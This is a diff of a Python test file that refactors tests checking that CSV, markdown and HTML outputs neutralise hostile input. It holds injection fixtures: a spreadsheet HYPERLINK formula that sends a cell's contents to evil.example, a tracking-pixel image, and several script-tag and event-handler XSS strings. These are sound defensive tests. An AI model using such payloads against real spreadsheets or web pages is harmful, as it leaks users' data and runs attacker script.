@@ -11,10 +11,10 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
-from agnews_exp.analyses.errors.tables import hardest_markdown, markdown_table, write_csv
+from agnews_exp.analyses.explanation.analysis import Article
 from agnews_exp.analyses.explanation.linear import Term
-from agnews_exp.analyses.explanation.page import Article, articles_markdown, write_page
 from agnews_exp.analyses.explanation.words import Explanation, word_spans
+from agnews_exp.analyses.findings import Column, Table, html_page, to_markdown, write_table
 from agnews_exp.config.compose import compose_config, quoted
 from agnews_exp.config.validation import check_config
 from agnews_exp.core.errors import ConfigError
@@ -23,12 +23,11 @@ from agnews_exp.data.corpus import TextRows
 from agnews_exp.evaluation.predictions import Predictions
 from agnews_exp.sweeps.results import JobRow, markdown, override_values, write_aggregate, write_jobs
 from agnews_exp.sweeps.state import JobState
-from agnews_exp.tracking.record_files import write_confusion_figure, write_report
+from agnews_exp.tracking.record_files import write_report
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 SCRIPT = "<img src=x onerror=alert(1)><script>alert(1)</script>"
 IMAGE = "![x](http://evil.example/pixel.png)"
-NASTY = ["$\\frac$", "$_{", FORMULA, SCRIPT, "a|b", IMAGE]
 
 
 def cells_of(path):
@@ -56,7 +55,8 @@ def job(name, words):
 
 
 def test_no_table_that_is_written_from_foreign_text_holds_a_formula(tmp_path):
-    write_csv(tmp_path / "hardest.csv", [{"row_id": 1, "text": FORMULA, "margin": -0.25, "label": "@SUM(1)"}])
+    table = Table("hardest", "T", ("row_id", "text", "margin", "label"), ((1, FORMULA, -0.25, "@SUM(1)"),))
+    write_table(table, tmp_path / "hardest.csv")
     rows = TextRows(["a", "b"], np.array([0, 1]), np.arange(2))
     write_report(tmp_path / "report.csv", rows, Predictions(np.array([0, 1])), (FORMULA, "-cmd"))
     jobs = [job(FORMULA, (f"name={FORMULA}",)), job("m", ("name=+1+1",))]
@@ -101,17 +101,18 @@ def rendered(text):
 )
 def test_markup_in_names_is_shown_in_every_markdown_table(nasty):
     article = Article(1, nasty, nasty, 0.5, nasty, [explained(nasty)])
+    table = Table("t", nasty, (nasty, Column("n", width=20)), ((nasty, nasty),), note=nasty)
     tables = [
-        markdown_table(["label", "n"], [[nasty, "1"]]),
-        hardest_markdown([{"row_id": 1, "label": nasty, "prediction": nasty, "margin": None, "text": nasty}]),
-        articles_markdown([article]),
+        to_markdown([table]),
+        to_markdown(article.blocks()),
         markdown([job("m", (f"name={nasty}",)), job("m", ("name=b",))]),
     ]
+    known = {"table", "thead", "tbody", "tr", "th", "td", "h2", "p", "code", "em", "strong"}
     for table in tables:
-        assert rendered(table) <= {"table", "thead", "tbody", "tr", "th", "td", "h2", "p", "code", "em"}, table
+        assert rendered(table) <= known, table
         lines = [line for line in table.splitlines() if line.startswith("| ")]
         widths = {line.replace("\\|", "").count("|") for line in lines}
-        assert len(widths) == 1, table
+        assert len(widths) <= 1, table
 
 
 @given(text=st.text(st.sampled_from("<>[]()!|\\/a \n`&;") | st.characters(), max_size=20))
@@ -124,20 +125,13 @@ def test_a_cell_of_any_text_holds_no_tag_and_stays_one_cell(text):
 
 
 @pytest.mark.parametrize("nasty", [SCRIPT, '"><script>', "</title><script>", "a <!-- b", "<!--", "' onload='x"])
-def test_an_explanation_page_holds_no_tag_of_the_texts(tmp_path, nasty):
+def test_an_explanation_page_holds_no_tag_of_the_texts(nasty):
     article = Article(1, nasty, f"{nasty}2", 0.5, "softmax", [explained(nasty)], [Term(nasty, nasty, 1.0)])
-    write_page(tmp_path / "page.html", nasty, [article], [nasty])
-    page = (tmp_path / "page.html").read_text()
-    known = "html head meta title style body h1 h2 p b div span small code"
+    page = html_page(nasty, [*article.blocks(), Table("t", nasty, (nasty,), ((nasty,),))])
+    known = "html head meta title style body h1 h3 p b div small table thead tbody tr th td button"
     assert tags_of(page) <= set(known.split())
     assert "<!--" not in page
     assert "default-src 'none'" in page
-
-
-@pytest.mark.parametrize("name", NASTY)
-def test_a_class_name_of_any_kind_can_be_drawn(tmp_path, name):
-    write_confusion_figure(tmp_path / "m.png", {"val": np.eye(2, dtype=np.int64)}, (name, "b"))
-    assert (tmp_path / "m.png").stat().st_size > 0
 
 
 @pytest.mark.parametrize(
